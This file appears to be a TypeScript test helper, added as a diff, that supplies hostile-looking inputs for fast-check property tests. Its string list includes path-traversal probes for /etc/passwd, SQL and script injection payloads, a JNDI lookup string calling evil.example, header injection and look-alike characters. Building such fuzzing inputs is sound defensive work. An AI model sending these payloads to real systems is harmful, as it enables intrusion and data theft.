@@ -1,0 +1,98 @@
+/** Input that somebody would send who means ill, for fast-check. */
+import fc from 'fast-check';
+
+/** What has broken programs before: prototypes, paths, markup, control characters, look-alikes, numbers at their edges. */
+export const nastyTexts: readonly string[] = [
+  '',
+  ' ',
+  '.',
+  '..',
+  '../../../etc/passwd',
+  '..%2f..%2fetc%2fpasswd',
+  '%',
+  '%00',
+  '%E0%A4%A',
+  '\u0000',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  'null',
+  'undefined',
+  'NaN',
+  '-1',
+  '0',
+  '1e309',
+  '0x10',
+  '9007199254740993',
+  '-9223372036854775808',
+  "' OR '1'='1",
+  '<script>document.title="owned"</script>',
+  '"><img src=x onerror="document.title=\'owned\'">',
+  '</title><svg onload=alert(1)>',
+  'javascript:alert(1)',
+  '{{constructor.constructor("return 1")()}}',
+  '$' + '{jndi:ldap://evil.example/a}',
+  '\r\nset-cookie: owned=1',
+  'a\nmsg":"forged","level":"info',
+  '\u202egnp.exe',
+  'web\u2011one',
+  'w\u0435b-1',
+  '\u200b',
+  '\ufeff',
+  '\ud800',
+  'e\u0301',
+  '🦀'.repeat(40),
+  '*'.repeat(200),
+  '('.repeat(200),
+  'a'.repeat(254),
+  'a'.repeat(5000),
+  '0-0',
+  '0-1',
+  '99-1',
+  '1,2,3',
+  '/api/v1/servers',
+  '//evil.example/',
+  '\\\\evil\\share',
+  '*',
+  '2026-13-45T99:99:99Z',
+  'FREQ=SECONDLY;INTERVAL=0',
+  'FREQ=DAILY;COUNT=999999999',
+  'Mars/Olympus',
+];
+
+export const nastyText = fc.oneof(
+  { weight: 3, arbitrary: fc.constantFrom(...nastyTexts) },
+  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
+  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 300 }) },
+);
+
+export const nastyNumber = fc.constantFrom<unknown>(
+  0,
+  -0,
+  -1,
+  0.5,
+  1e-300,
+  1e300,
+  2 ** 31,
+  2 ** 53,
+  -(2 ** 53),
+  Number.MAX_VALUE,
+  null,
+  '12',
+);
+
+/** Any JSON, with keys that mean something to JavaScript. */
+export const nastyJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown; leaf: unknown }>((tie) => ({
+  leaf: fc.oneof(nastyText, nastyNumber, fc.boolean(), fc.constant(null)),
+  value: fc.oneof(
+    { maxDepth: 4, withCrossShrink: true },
+    tie('leaf'),
+    fc.array(tie('value'), { maxLength: 5 }),
+    fc.dictionary(fc.oneof(nastyText, fc.string({ maxLength: 10 })), tie('value'), {
+      maxKeys: 5,
+      noNullPrototype: true,
+    }),
+  ),
+})).value;
